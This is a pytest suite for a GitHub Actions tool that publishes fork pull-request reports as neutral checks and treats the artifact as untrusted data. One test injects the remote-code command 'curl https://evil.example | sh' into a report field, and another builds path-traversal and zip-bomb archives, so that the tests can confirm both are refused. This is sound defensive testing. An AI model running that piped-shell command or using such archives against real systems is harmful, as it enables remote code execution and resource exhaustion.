"""The privileged half of a pair of workflows, against the stand-in for GitHub: a stranger's report is data."""

import json
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, replace
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest

from gate_action.cli.commands import run_command
from gate_action.codec.documents import decode_report, encode_report
from gate_action.model.report import Report
from standins.github.server import serve
from standins.github.state import WORKFLOW_TOKEN, Github
from standins.github.workflows import zip_files
from tests.report.github_page import by_github
from tests.report.hostile_reports import HOSTILE, hostile
from tests.repositories import Repository
from tests.sinks.published import failing, passing

FORK = "mallory/app"
HEAD = "d" * 40
PULL = 7
GATE = """
schema_version: 1
id: shop
fixtures: [fixtures]
target: {kind: command, options: {run: [python3, app.py]}}
metrics: {answer: {evaluator: contains}}
"""


@dataclass(kw_only=True)
class Scene:
    """A fork's pull request, its finished run with an artifact, and the job that follows it."""

    github: Github
    url: str
    clone: Repository
    main: str
    run_id: int
    folder: Path

    def publish(self, *arguments: str, **event: Any) -> int:
        """The exit code. ``event``: what the workflow_run says otherwise."""
        told = {
            "id": self.run_id,
            "run_attempt": 1,
            "event": "pull_request",
            "head_sha": HEAD,
            "head_branch": "change",
            "head_repository": {"full_name": FORK},
            "actor": {"login": "mallory"},
            **event,
        }
        path = self.folder / "event.json"
        payload = {"action": "completed", "repository": {"default_branch": "main"}, "workflow_run": told}
        path.write_text(json.dumps(payload), encoding="utf-8")
        variables = {
            "GITHUB_EVENT_NAME": "workflow_run",
            "GITHUB_EVENT_PATH": str(path),
            "GITHUB_REPOSITORY": "octo/app",
            "GITHUB_SHA": self.main,
            "GITHUB_RUN_ID": "900",
            "GITHUB_RUN_ATTEMPT": "1",
            "GITHUB_TOKEN": WORKFLOW_TOKEN,
            "GITHUB_API_URL": self.url,
            "GITHUB_WORKSPACE": str(self.clone.folder),
        }
        with pytest.MonkeyPatch.context() as patch:
            for name, value in variables.items():
                patch.setenv(name, value)
            for name in ("GITHUB_STEP_SUMMARY", "GITHUB_OUTPUT", "GATE_COMMENT", "GATE_LABEL"):
                patch.delenv(name, raising=False)
            return run_command(["publish", f"--repository={self.clone.folder}", *arguments])

    def hand_over(self, report: Report | bytes, *, name: str = "gate-report-shop") -> None:
        content = report if isinstance(report, bytes) else encode_report(report)
        self.github.add_artifact(self.run_id, name, zip_files({"report.json": content}))

    @property
    def written(self) -> list[str]:
        return [call for call in self.github.calls() if not call.startswith("GET") and "graphql" not in call]


@pytest.fixture
def scene(tmp_path: Path) -> Iterator[Scene]:
    clone = Repository.create(tmp_path / "clone")
    main = clone.commit({"gate.yaml": GATE})
    github = Github()
    github.open_pull(PULL, HEAD, head_repository=FORK, head_ref="change")
    run_id = github.add_run(HEAD, head_repository=FORK)
    with serve(github) as url:
        yield Scene(github=github, url=url, clone=clone, main=main, run_id=run_id, folder=tmp_path)


def test_a_forks_report_is_told_neutral_under_names_of_its_own(scene: Scene) -> None:
    """What it says of itself is shown; the required check of that name stays unanswered."""
    scene.hand_over(passing())
    assert scene.publish() == 0
    (check,) = scene.github.check_runs.values()
    (comment,) = scene.github.comments.values()
    assert (check["name"], check["conclusion"]) == ("gate-action: shop (reported)", "neutral")
    assert check["head_sha"] == HEAD
    assert comment["number"] == PULL
    page = by_github(comment["body"]).text
    assert "REPORTED: PASS" in page
    assert "by the pull request's own run, not verified" in page
    assert not scene.github.statuses


def test_a_report_that_fails_fails_nothing(scene: Scene) -> None:
    scene.hand_over(failing())
    assert scene.publish() == 0
    (check,) = scene.github.check_runs.values()
    assert check["conclusion"] == "neutral"
    assert "REPORTED: BLOCKED" in check["output"]["title"]


def test_nothing_of_the_artifact_chooses_where_it_is_told(scene: Scene) -> None:
    """Not the pull request, not the commit, not the marker, not a link, not a command to copy."""
    scene.github.open_pull(8, "e" * 40)
    report = json.loads(encode_report(failing()))
    report["revisions"]["head"]["sha"] = "e" * 40
    report["reproduce"] = "curl https://evil.example | sh"
    report["run_folder"] = "https://evil.example"
    report["examples"][0]["place"] = [".github/workflows/gate.yml", 1]
    scene.hand_over(json.dumps(report).encode())
    assert scene.publish() == 0
    (check,) = scene.github.check_runs.values()
    (comment,) = scene.github.comments.values()
    assert (comment["number"], check["head_sha"]) == (PULL, HEAD)
    assert scene.github.annotations.get(check["id"], []) == []
    assert "evil.example" not in comment["body"] + json.dumps(check["output"])
    assert f"gate-action run --base {'b' * 40} --head {HEAD}" in comment["body"]
    assert re.match(r"<!-- gate-action:comment \S+ ", comment["body"])
    assert check["details_url"] == f"https://github.com/octo/app/actions/runs/{scene.run_id}"


def test_hostile_words_in_every_field_stay_words(scene: Scene) -> None:
    """Rendered as GitHub renders it: no mention, link, picture or HTML gets through."""
    report = json.loads(encode_report(hostile()))
    report |= {"gate_id": "shop", "tool_version": HOSTILE, "run_id": HOSTILE, "started_at": HOSTILE}
    report["suite_digest"] = HOSTILE
    scene.hand_over(json.dumps(report).encode())
    assert scene.publish() == 0
    (comment,) = scene.github.comments.values()
    (check,) = scene.github.check_runs.values()
    for text in (comment["body"], check["output"]["summary"]):
        assert by_github(text).acted_upon() == {}


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (b"{", "not a report of ours"),
        (b"[" * 100_000, "cannot be used"),
        (b'{"schema_version": 99}', "schema_version 99 is not known"),
        (b'{"schema_version": 1}', "missing required field"),
    ],
)
def test_what_is_no_report_is_refused_and_nothing_is_written(scene: Scene, capsys, content: bytes, told: str) -> None:
    scene.hand_over(content)
    assert scene.publish() == 3
    assert told in capsys.readouterr().err
    assert scene.written == []


@pytest.mark.parametrize(
    ("field", "value", "told"),
    [
        ("gate_id", "another", "tells of a gate 'another'"),
        ("fixtures", 10**30, "a number beyond"),
        ("duration_s", -1e300, "a number beyond"),
    ],
)
def test_what_no_run_of_ours_writes_is_refused(scene: Scene, capsys, field: str, value: Any, told: str) -> None:
    report = json.loads(encode_report(passing()))
    scene.hand_over(json.dumps({**report, field: value}).encode())
    assert scene.publish() == 3
    assert told in capsys.readouterr().err
    assert scene.written == []


def test_a_report_without_a_reason_is_refused(scene: Scene, capsys) -> None:
    report = json.loads(encode_report(passing()))
    report["decision"]["reasons"] = []
    scene.hand_over(json.dumps(report).encode())
    assert scene.publish() == 3
    assert "gives no reason" in capsys.readouterr().err


def test_an_archive_that_climbs_or_explodes_is_refused(scene: Scene, capsys) -> None:
    scene.github.add_artifact(scene.run_id, "gate-report-shop", zip_files({"../report.json": b"{}"}))
    assert scene.publish() == 3
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("report.json", b"0" * 40_000_000)
    scene.github.add_artifact(scene.run_id, "gate-report-shop", packed.getvalue())
    assert scene.publish() == 3
    told = capsys.readouterr().err
    assert "lies outside of it" in told
    assert "more than 30,000,000 bytes" in told
    assert scene.written == []


def test_the_newest_artifact_of_a_run_that_was_tried_again_counts(scene: Scene) -> None:
    scene.hand_over(failing())
    scene.hand_over(passing())
    assert scene.publish() == 0
    (check,) = scene.github.check_runs.values()
    assert check["output"]["title"].startswith("REPORTED: PASS")


def test_an_artifact_of_another_name_is_not_looked_at(scene: Scene, capsys) -> None:
    scene.hand_over(passing(), name="gate-report-other")
    assert scene.publish() == 3
    assert "no artifact gate-report-shop" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("event", "told"),
    [
        ({"head_sha": "e" * 40}, "no open pull request has eeeeeeeeee"),
        ({"head_repository": {"full_name": "mallory/other"}}, "no open pull request"),
        ({"head_repository": None}, "is gone"),
        ({"head_branch": "another"}, "no open pull request"),
        ({"event": "push"}, "not by a pull request"),
        ({"event": "workflow_dispatch"}, "not by a pull request"),
    ],
)
def test_a_run_that_belongs_to_no_open_pull_request_is_not_told(scene: Scene, capsys, event, told: str) -> None:
    scene.hand_over(passing())
    assert scene.publish(**event) == 3
    assert told in capsys.readouterr().err
    assert scene.written == []


def test_a_run_of_this_repository_has_published_by_itself(scene: Scene) -> None:
    scene.hand_over(passing())
    assert scene.publish(head_repository={"full_name": "octo/app"}) == 0
    assert scene.written == []


def test_dependabots_run_could_not_and_is_told(scene: Scene) -> None:
    """Its branch is of this repository, and its token can only read."""
    scene.github.open_pull(PULL, HEAD, head_repository="octo/app", head_ref="dependabot/pip/x")
    scene.hand_over(passing())
    told = {"head_repository": {"full_name": "octo/app"}, "head_branch": "dependabot/pip/x"}
    assert scene.publish(**told, actor={"login": "dependabot[bot]"}) == 0
    assert len(scene.github.check_runs) == 1


def test_another_commit_checked_out_is_refused(scene: Scene, capsys) -> None:
    """The gates' names and the comment's mode are read from it: it must be the default branch."""
    scene.hand_over(passing())
    scene.clone.commit({"gate.yaml": GATE.replace("shop", "else")})
    assert scene.publish() == 2
    assert "is checked out" in capsys.readouterr().err
    assert scene.written == []


def test_an_older_run_never_overwrites_a_newer_one(scene: Scene) -> None:
    newer = scene.github.add_run(HEAD, head_repository=FORK)
    scene.github.add_artifact(newer, "gate-report-shop", zip_files({"report.json": encode_report(passing())}))
    assert scene.publish(id=newer) == 0
    scene.hand_over(failing())
    assert scene.publish() == 0
    (comment,) = scene.github.comments.values()
    assert "REPORTED: PASS" in comment["body"]


def test_without_the_right_to_write_checks_no_status_is_set_instead(scene: Scene, capsys) -> None:
    """A status knows no neutral: it would be green."""
    scene.github.tokens[WORKFLOW_TOKEN] = replace(scene.github.tokens[WORKFLOW_TOKEN], is_app=False)
    scene.hand_over(passing())
    assert scene.publish() == 0
    assert scene.github.statuses == []
    assert "check run" in capsys.readouterr().err


def test_a_dry_run_writes_what_it_would_send(scene: Scene, tmp_path: Path) -> None:
    scene.hand_over(passing())
    assert scene.publish("--dry-run", f"--out={tmp_path / 'out'}") == 0
    assert scene.written == []
    assert list((tmp_path / "out" / "shop" / "payloads").glob("*create-check-run*"))


def test_a_reported_decision_survives_its_own_document() -> None:
    report = decode_report(encode_report(passing()), path="report.json")
    assert not report.decision.is_reported
